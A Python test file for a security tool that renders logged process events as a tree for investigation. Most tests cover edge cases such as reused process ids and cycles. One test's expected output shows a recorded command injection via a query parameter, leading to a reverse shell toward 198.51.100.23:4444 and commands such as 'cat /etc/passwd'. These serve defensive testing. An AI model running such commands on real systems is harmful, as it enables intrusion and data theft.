"""What happened is told in order, as a process tree where process ids allow it."""

from __future__ import annotations

from typing import Any

from trial_alerts import NOW, injection

from lichen.core import ocsf
from lichen.core.time import MICROSECONDS, to_text
from lichen.web.story import told


def lines(events: list[dict[str, Any]]) -> list[str]:
    return [
        f"{moment.guide}{f'{moment.lead} ' if moment.lead else ''}{moment.value[:24]}"
        for moment in told(events, {}, frozenset())
    ]


def started(pid: int, parent: int, command: str, at: int = 0, host: str = "h") -> dict[str, Any]:
    return {
        "event_id": f"{host}{pid}{command}",
        "raw": "",
        "class_uid": ocsf.PROCESS_ACTIVITY,
        "time": NOW + at,
        "process.pid": pid,
        "actor.process.pid": parent,
        "process.cmd_line": command,
        "subject.host": host,
    }


def test_the_recorded_injection_is_one_tree_under_the_service() -> None:
    assert lines(injection()) == [
        "python3.11",
        "└ sh -c 'grep -m1 -F -- \"x",
        "  ├ grep -m1 -F -- x",
        '  └ bash -c "bash -i >& /dev',
        "    └ bash -i",
        "      ├ connect 198.51.100.23:4444",
        "      ├ id",
        "      ├ cat /etc/passwd",
        "      └ ls -la /srv/app",
        "POST /api/quote?sku=x%22%3B+b",
    ]


def test_a_process_is_never_hung_under_one_of_another_host() -> None:
    events = [started(10, 1, "sh", host="a"), started(11, 10, "id", 1, host="b")]
    told_lines = lines(events)
    assert told_lines == ["a process", "└ sh", "a process", "└ id"]


def test_a_process_id_used_again_means_the_newer_process() -> None:
    events = [started(10, 1, "old"), started(10, 1, "new", 5), started(11, 10, "child", 9)]
    assert lines(events) == ["a process", "├ old", "└ new", "  └ child"]


def test_processes_that_claim_to_be_each_others_parent_end_in_a_finite_story() -> None:
    events = [started(1, 2, "a"), started(2, 1, "b", 1), started(3, 3, "self", 2)]
    assert len(told(events, {}, frozenset())) <= 6


def test_a_chain_deeper_than_the_page_stays_in_one_column() -> None:
    events = [started(n + 1, n, f"p{n}", n) for n in range(1, 150)]
    moments = told(events, {}, frozenset())
    assert len(moments) == 150
    assert max(len(moment.guide) for moment in moments) <= 2 * 13


def test_times_may_be_text_or_microseconds() -> None:
    event = started(10, 1, "sh")
    as_text = told([{**event, "time": to_text(NOW)}], {}, frozenset())
    assert as_text[-1].time_us == told([event], {}, frozenset())[-1].time_us == NOW


def test_further_events_than_a_page_bears_are_left_out() -> None:
    assert len(told([started(n, 1, "x", n * MICROSECONDS) for n in range(2, 1000)], {}, frozenset())) <= 201
